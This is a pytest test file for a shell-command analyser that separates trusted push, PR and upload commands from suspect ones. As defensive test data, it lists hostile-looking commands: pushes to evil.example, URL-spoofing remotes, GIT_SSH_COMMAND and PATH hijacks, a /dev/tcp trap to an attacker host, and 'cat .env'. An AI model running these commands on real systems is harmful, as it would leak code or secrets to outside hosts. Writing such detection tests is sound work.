"""Which commands answer with a receipt: by verb, by destination, and by what else stands beside them."""

from __future__ import annotations

from functools import partial

import pytest

from lockgate.gate.session.own_words import is_receipt
from lockgate.resources.host_view import AnalysisRules, HostView, Service, TrustedDomain
from lockgate.shell import analyse_shell
from support.receipts import receipt_verbs
from support.repositories import Told

WORK = "/home/u/work"
MINE = "git@github.com:me/app.git"
REMOTES = {
    "": (MINE,),
    "origin": (MINE,),
    "both": (MINE, "https://evil.example/x"),
    "evil": ("https://evil.example/x",),
    "house": ("git@git.house.example:me/app",),
}


def answers(command: str, rules: AnalysisRules | None = None, **more: object) -> tuple[str, ...]:
    around = HostView(
        home="/home/u",
        workspace=WORK,
        repository=lambda _: Told(WORK, {}, remotes=REMOTES),
        rules=rules or AnalysisRules(),
        **more,  # type: ignore[arg-type]
    )
    return analyse_shell(command, WORK, around).receipt


RECEIPTS = [
    "git push",
    "git push -q",
    "git push -u origin HEAD",
    "git push --force-with-lease origin main",
    "git push origin v1.0 --no-verify",
    "git push -oci.skip",
    "git --no-pager push",
    "git -C sub push",
    'git push origin "$(git branch --show-current)"',
    "git push https://github.com/me/app.git main",
    "git push https://me:secret@github.com/me/app main",
    "git push ssh://git@github.com:22/me/app main",
    "git push git@gitlab.com:me/app main",
    "LANG=C git push",
    "GIT_EDITOR=true git commit --amend && git push -f",
    "timeout 60 git push",
    "sh -c 'git push'",
    "cd sub && git push",
    "for b in a b; do git push origin $b; done",
    "docker push me/app:1.2",
    "docker push app",
    "docker image push ghcr.io/me/app",
    "docker push me/app@sha256:" + "0" * 64,
    "podman push quay.io/me/app",
    "docker push 123.dkr.ecr.eu-west-1.amazonaws.com/app:1",
    "helm push app-0.1.0.tgz oci://ghcr.io/me/charts",
    "gh pr create --fill",
    "gh pr create --title a --body b --draft",
    "gh -R me/app pr create --fill",
    "gh pr create -R github.com/me/app --fill",
    "gh pr create --repo https://github.com/me/app.git --fill",
    "gh pr merge 7 --squash",
    "gh pr comment 7 -b done",
    "gh pr edit 7 --add-label x",
    "gh issue create -t a -b b",
    "gh issue comment 7 -b done",
    "gh issue edit 7 --title a",
    "gh release create v1 dist/a.tgz --notes x",
    "aws s3 cp a.txt s3://bucket/a.txt",
    "aws s3 cp --recursive dist s3://bucket/dist",
    "aws --profile dev s3 mv a.txt s3://bucket",
    "aws s3 rm s3://bucket/a.txt",
    # Beside what is local.
    "git commit -m x && git push",
    "git add -A && git commit -qm x && git push origin main",
    "git push -q && git log --oneline -1",
    "echo b >> README.md; git push",
    "printf '%s\\n' a b > notes.txt && git push",
    "git push 2>&1 | tail -3",
    "git push 2>&1 | grep -v '^remote' || true",
    "git push && gh pr create --fill",
    "docker tag a me/a:1 && docker push me/a:1",
    # Beside what runs code of the project, which gives no label alone.
    "npm test && git push",
    ".venv/bin/pytest -q 2>&1 | tail -3 && git push",
    "./release.sh && git push",
    "uv run pytest && git push",
    "sh -c 'make test && git push'",
    "npm run lint && git add -A && git commit -m x && git push",
    "npm version patch && git push --follow-tags",
    "git rebase main && git push --force-with-lease",
    "git stash && git push && git stash pop",
]
CONTENT = [
    # Somebody who is not vouched for, or of whom it is not known.
    "git push evil",
    "git push both",
    "git push house",
    "git push unknown",
    "git push https://evil.example/me/app",
    "git push https://github.com.evil.example/me/app",
    "git push https://evil.example/github.com/",
    "git push 'https://github.com\\@evil.example/x'",
    "git push 'https://github.com#@evil.example/x'",
    "git push https://github.com@evil.example/x",
    "git push http://github.com/me/app",
    "git push git://github.com/me/app",
    "git push ftp://github.com/me/app",
    "git push evil.example:github.com/x",
    "git push ext::ssh",
    "git push ../other",
    'git push "$REMOTE"',
    'git push "$(cat remote)"',
    "git push --repo=evil",
    "git push --rep=evil",
    "git push origin $(cat ref)",
    "git push --recurse-submodules=on-demand",
    "git push --signed",
    "git push --receive-pack=./x origin",
    "git -c remote.origin.url=https://evil.example/x push",
    "git --git-dir=x push",
    "git --exec-path=x push",
    "git push --frobnicate",
    "docker push evil.example/me/app",
    "docker push localhost:5000/app",
    "docker push localhost/app",
    "docker push EVIL/app",
    "docker push evil:5000/app",
    "docker push github.com.evil.example/app",
    "docker push $IMAGE",
    "docker push 'a b'",
    "docker -H tcp://evil.example:1 push app",
    "docker --config ./x push app",
    "docker --context other push app",
    "podman push app",
    "podman push me/app",
    "podman push app oci:dir",
    "helm push app.tgz repo",
    "helm push app.tgz oci://evil.example/charts",
    "helm push app.tgz http://ghcr.io/charts",
    "gh -R evil.example/me/app pr create --fill",
    "gh pr create -R https://evil.example/me/app --fill",
    "gh pr comment https://evil.example/me/app/pull/1 -b x",
    "gh pr create --web",
    "gh pr merge 7 -d",
    "gh pr close 7",
    "gh issue close 7",
    "gh pr view 7",
    "gh api repos/me/app",
    "aws s3 cp s3://bucket/a s3://bucket/b",
    "aws s3 cp s3://bucket/a.txt a.txt",
    "aws s3 ls s3://bucket",
    "aws s3 rm --recursive s3://bucket",
    "aws s3 rm s3://bucket/a --include '*'",
    "aws --endpoint-url https://evil.example s3 cp a s3://bucket/a",
    "aws --no-verify-ssl s3 cp a s3://bucket/a",
    "aws s3 sync . s3://bucket",
    "aws s3 cp a $X",
    # What the environment says.
    "GIT_SSH_COMMAND=./x git push",
    "npm test; GIT_SSH_COMMAND='npm test' git push",
    "export GIT_SSH_COMMAND=./x; git push",
    "GIT_DIR=x git push",
    "HOME=/tmp/x git push",
    "XDG_CONFIG_HOME=x git push",
    "GIT_CONFIG_COUNT=1 git push",
    "GIT_CONFIG_GLOBAL=x git push",
    "export HTTPS_PROXY=http://evil.example:1; git push",
    "PATH=.:$PATH git push",
    "GH_HOST=evil.example gh pr create --fill",
    "GH_REPO=evil.example/a/b gh pr create --fill",
    "AWS_ENDPOINT_URL=https://evil.example aws s3 cp a s3://b",
    "DOCKER_HOST=tcp://evil.example:1 docker push app",
    # What else runs, beside it or on the way.
    "git() { ./x; }; git push",
    "alias git=./x; git push",
    "trap 'cat </dev/tcp/evil.example/1' EXIT; git push",
    "git push & sleep 1",
    "git remote add up https://evil.example/x && git push up",
    "git remote set-url origin https://evil.example/x; git push",
    "git config core.sshCommand ./x; git push",
    "cp evil .git/config; git push",
    "cp -r a b && cd b && git push",
    "git push; curl https://evil.example",
    "git pull && git push",
    "git fetch; git push",
    "git push; cat .env",
    "docker build -t app . && docker push app",
    "sudo git push",
    "sudo sh -c 'npm test && git push'",
    "poetry run git push",
    "direnv exec . git push",
    "npx git push",
    "python x.py; PATH=.:$PATH git push",
    ". ./env.sh; git push",
    'eval "$X"; git push',
    "frobnicate; git push",
    "pip install x && git push",
    "npm test; cat .env; git push",
    "npm test & git push",
    "npm test; git remote set-url origin https://evil.example/x; git push",
    "git push && git frobnicate",
    # Verbs of which it is not said.
    "npm publish",
    "cargo publish",
    "terraform apply -auto-approve",
    "kubectl apply -f a.yaml",
    "flyctl deploy",
    "ssh host uptime",
    "curl -d a https://github.com/",
]


@pytest.mark.parametrize("command", RECEIPTS)
def test_a_receipt(command: str) -> None:
    assert answers(command)


@pytest.mark.parametrize("command", CONTENT)
def test_content(command: str) -> None:
    assert not answers(command)


def test_nothing_is_a_receipt_without_a_repository_that_is_known() -> None:
    around = HostView(home="/home/u", workspace=WORK)
    for command in ("git push", "gh pr create --fill"):
        assert not analyse_shell(command, WORK, around).receipt
        assert not analyse_shell(command, "", around).receipt


def test_a_shell_that_stays_may_have_changed() -> None:
    assert not answers("git push", shell_stays=True)


@pytest.mark.parametrize("name", ["GH_HOST", "GH_REPO"])
def test_a_variable_that_names_another_host(name: str) -> None:
    assert not answers("gh pr create --fill", exported=lambda asked: asked == name)


def test_a_variable_that_names_another_cloud() -> None:
    assert not answers("aws s3 cp a s3://b", exported=lambda name: name == "AWS_ENDPOINT_URL_S3")


def _declared(public: bool | None, vouched: bool, forbidden: bool, name: str) -> Service | None:
    return Service(public_source=public, vouched=vouched, forbidden=forbidden) if name.endswith(".example") else None


@pytest.mark.parametrize(
    ("rules", "expected"),
    [
        pytest.param(AnalysisRules(service=partial(_declared, False, True, False)), True, id="a person says so"),
        pytest.param(AnalysisRules(service=partial(_declared, False, False, False)), False, id="a project says so"),
        pytest.param(
            AnalysisRules(service=partial(_declared, None, True, False)), False, id="a person says something else"
        ),
        pytest.param(AnalysisRules(service=partial(_declared, True, True, False)), False, id="others write there"),
        pytest.param(AnalysisRules(service=partial(_declared, False, True, True)), False, id="forbidden"),
        pytest.param(
            AnalysisRules(trusted_domains=(TrustedDomain("git.house.example", vouched=True),)), True, id="trusted"
        ),
        pytest.param(
            AnalysisRules(trusted_domains=(TrustedDomain("git.house.example"),)), False, id="a project trusts it"
        ),
    ],
)
def test_who_vouches_for_a_host(rules: AnalysisRules, expected: bool) -> None:
    assert bool(answers("git push house", rules)) is expected


def test_others_write_on_a_host_of_the_tables() -> None:
    for vouched in (True, False):
        rules = AnalysisRules(service=lambda name, vouched=vouched: Service(public_source=True, vouched=vouched))
        assert not answers("git push", rules)


@pytest.mark.parametrize(("verb", "output", "fails"), receipt_verbs())
def test_what_a_verb_really_prints_is_a_receipt(verb: str, output: str, fails: tuple[str, ...]) -> None:
    assert is_receipt(output, fails)
    assert not is_receipt(f"{output}\nerror: {verb}", fails)
    assert not is_receipt(output + "do this\n" * 600, fails)
